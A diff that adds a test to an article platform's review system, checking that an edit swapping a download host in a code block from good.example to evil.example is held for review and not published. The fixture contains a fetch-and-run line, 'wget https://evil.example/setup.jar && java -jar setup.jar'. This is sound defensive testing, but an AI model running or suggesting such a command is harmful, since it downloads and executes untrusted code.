@@ -97,6 +97,19 @@ test('a link or picture makes the smallest edit one that is read', async () => {
   expect(edited.body.data.pending_revision).not.toBeNull()
 })
 
+test('another host in a command is read by a person, however long the article', async () => {
+  const text = 'длинный рассказ о сервере '.repeat(300)
+  const content = (host: string) =>
+    `Скачайте с ${host}.\n\n\`\`\`bash\nwget https://${host}/setup.jar && java -jar setup.jar\n\`\`\`\n\n${text}`
+  const article = await anArticle(api, { content: content('good.example') })
+  const path = `/api/articles/${article.id}`
+  const edited = await as(article.authorRow)<{ data: Article }>('PATCH', path, {
+    content: content('evil.example'),
+  })
+  expect(edited.body.data.pending_revision).not.toBeNull()
+  expect((await as(null)<{ data: Article }>('GET', path)).body.data.content_html).not.toContain('evil')
+})
+
 test('many small steps do not add up to another text unseen', async () => {
   const words = Array.from({ length: 120 }, (_, at) => `слово${at}`)
   const text = () => `${words.join(' ')}.`
